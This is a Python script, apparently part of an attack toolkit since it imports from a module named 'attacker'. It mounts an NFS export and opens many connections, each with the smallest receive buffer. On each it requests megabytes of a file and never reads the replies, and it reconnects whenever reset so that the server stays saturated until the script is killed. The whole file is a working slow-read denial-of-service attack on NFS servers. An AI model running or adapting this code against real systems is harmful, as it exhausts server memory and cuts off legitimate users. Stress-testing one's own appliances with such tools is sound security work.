#!/usr/bin/env python3
"""stalled_readers.py OWN_ADDRESS ADDRESS NFS_PORT MOUNT_PORT NAME COUNT — asks for megabytes of /export/NAME on COUNT
connections, takes none of the replies, and comes again when it is disconnected, until it is killed. Says once when all
have asked. Standard library only.
"""
import socket
import struct
import sys
import time

from attacker import call, opaque

MOUNT, NFS = 100_005, 100_003
READ_BYTES = 65_536
READS = 6
# The smallest that Linux has: what the kernel takes is not the appliance's to hold any more.
RECEIVE_BUFFER = 2_304


def connected(own, address, port):
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER)
    connection.settimeout(10)
    connection.bind((own, 0))
    connection.connect((address, port))
    return connection


def answer(connection, record):
    """The results in the reply to a call."""
    connection.sendall(record)
    stream = b""
    while len(stream) < 4 or len(stream) < 4 + (struct.unpack(">I", stream[:4])[0] & 0x7FFFFFFF):
        part = connection.recv(65_536)
        if not part:
            raise OSError("no reply")
        stream += part
    # Mark, xid, direction, status, an empty verifier, accepted.
    results = stream[4 + 24 :]
    status = struct.unpack(">I", results[:4])[0]
    if status:
        raise OSError(f"status {status}")
    return results[4:]


def handle_in(results):
    length = struct.unpack(">I", results[:4])[0]
    return results[4 : 4 + length]


def main():
    own, address, nfs_port, mount_port, name, count = sys.argv[1:]
    with connected(own, address, int(mount_port)) as connection:
        root = handle_in(answer(connection, call(MOUNT, 3, 1, opaque(b"/export"))))
    with connected(own, address, int(nfs_port)) as connection:
        arguments = opaque(root) + opaque(name.encode())
        file = handle_in(answer(connection, call(NFS, 3, 3, arguments)))

    def stalled(number):
        connection = connected(own, address, int(nfs_port))
        for read in range(READS):
            offset = (number * READS + read) * READ_BYTES
            connection.sendall(call(NFS, 3, 6, opaque(file) + struct.pack(">QI", offset, READ_BYTES)))
        connection.setblocking(False)
        return connection

    def is_reset(connection):
        return connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0

    connections = [stalled(number) for number in range(int(count))]
    print(f"{count} readers", flush=True)
    while True:
        time.sleep(0.2)
        for number, connection in enumerate(connections):
            if is_reset(connection):
                connection.close()
                try:
                    connections[number] = stalled(number)
                except OSError:
                    # There is no place for now; the next round tries again.
                    connections[number] = socket.socket()


if __name__ == "__main__":
    if len(sys.argv) != 7:
        sys.exit(__doc__)
    main()
